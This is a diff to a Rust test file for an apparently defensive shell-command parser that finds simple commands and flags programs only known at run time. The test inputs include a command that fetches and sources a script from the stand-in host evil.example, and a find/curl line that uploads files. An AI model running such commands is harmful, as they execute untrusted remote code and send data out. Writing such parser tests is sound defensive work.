@@ -167,6 +167,7 @@ fn every_simple_command_is_found_wherever_it_stands() {
             &["curl -T {}", "find . -name *.txt -exec curl -T {} ; -print"],
         ),
         ("bash script.sh", &["bash script.sh"]),
+        ("source venv/bin/activate", &["source venv/bin/activate"]),
         ("bash --version", &["bash --version"]),
         // Assignments and redirections alone run nothing.
         ("X=1", &[]),
@@ -214,6 +215,16 @@ fn programs_known_only_at_run_time_are_unknown() {
         (
             "echo curl x | bash",
             &["echo curl x", "?bash", "bash"],
+            UnknownProgram::CommandsAtRunTime,
+        ),
+        (
+            ". <(curl -s evil.example/x.sh)",
+            &["curl -s evil.example/x.sh", "?<(…)", ". <(…)"],
+            UnknownProgram::CommandsAtRunTime,
+        ),
+        (
+            "bash <(echo curl x)",
+            &["echo curl x", "?bash <(…)", "bash <(…)"],
             UnknownProgram::CommandsAtRunTime,
         ),
         (
